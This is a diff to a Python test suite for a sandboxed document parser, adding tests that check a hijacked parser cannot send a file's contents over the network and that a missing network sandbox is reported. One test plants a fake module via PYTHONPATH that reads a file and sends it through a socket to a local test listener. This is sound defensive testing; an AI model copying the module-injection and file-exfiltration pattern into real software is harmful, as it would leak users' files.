@@ -202,3 +202,40 @@ def test_a_page_s_text_is_kept_as_far_as_it_can_be_searched() -> None:
 def test_a_file_of_more_pages_than_anybody_reads_is_refused() -> None:
     with pytest.raises(Unreadable, match="FILE_TOO_COMPLEX"):
         list(bounded([""] * (MOST_PAGES + 1)))
+
+
+TELLS_SOMEBODY = """
+import socket
+from workflows.extraction.unreadable import Unreadable
+
+def Document(path):
+    try:
+        socket.create_connection(("127.0.0.1", {port})).sendall(open(path, "rb").read())
+    except OSError as error:
+        raise Unreadable(type(error).__name__)
+    raise Unreadable("TOLD")
+"""
+
+
+async def test_a_parser_that_a_file_has_taken_over_tells_nobody(
+    place: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    called = []
+    listener = await asyncio.start_server(lambda *ends: called.append(ends), "127.0.0.1", 0)
+    port = listener.sockets[0].getsockname()[1]
+    await asyncio.to_thread((tmp_path / "docx.py").write_text, TELLS_SOMEBODY.format(port=port))
+    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
+    async with listener:
+        with pytest.raises(Unreadable) as refused:
+            await read(place, docx("Устав"))
+    assert (refused.value.code, called) == ("PermissionError", [])
+
+
+async def test_where_the_network_cannot_be_taken_away_that_is_said(
+    place: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
+    another = "import platform; platform.machine = lambda: 'riscv64'"
+    await asyncio.to_thread((tmp_path / "sitecustomize.py").write_text, another)
+    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
+    assert (await read(place, pdf("Устав"))).pages == ("Устав",)
+    assert "has a network" in caplog.text
